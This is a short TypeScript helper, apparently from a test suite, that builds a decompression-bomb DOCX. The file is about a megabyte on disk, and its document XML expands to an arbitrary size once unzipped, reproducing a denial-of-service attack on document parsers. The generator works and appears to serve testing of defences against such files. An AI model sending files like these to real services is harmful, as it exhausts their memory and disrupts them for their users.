import { Zip, ZipDeflate, ZipPassThrough } from "fflate";

const enc = new TextEncoder();
const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;

/**
 * The attack as reproduced: a DOCX of about a megabyte whose word/document.xml
 * inflates to `inflatedMb` megabytes of paragraphs. Streamed through fflate one
 * megabyte at a time, so building it never holds the inflated XML in memory.
 */
export function docxBomb(inflatedMb: number): Buffer {
  const parts: Uint8Array[] = [];
  const zip = new Zip((err, chunk) => {
    if (err) throw err;
    parts.push(chunk);
  });
  const types = new ZipPassThrough("[Content_Types].xml");
  zip.add(types);
  types.push(enc.encode(CONTENT_TYPES), true);
  const doc = new ZipDeflate("word/document.xml", { level: 9 });
  zip.add(doc);
  doc.push(enc.encode('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'));
  const para = "<w:p><w:r><w:t>a</w:t></w:r></w:p>";
  const megabyte = enc.encode(para.repeat(Math.floor((1024 * 1024) / para.length)));
  for (let i = 0; i < inflatedMb; i++) doc.push(megabyte);
  doc.push(enc.encode("</w:body></w:document>"), true);
  zip.end();
  return Buffer.concat(parts);
}
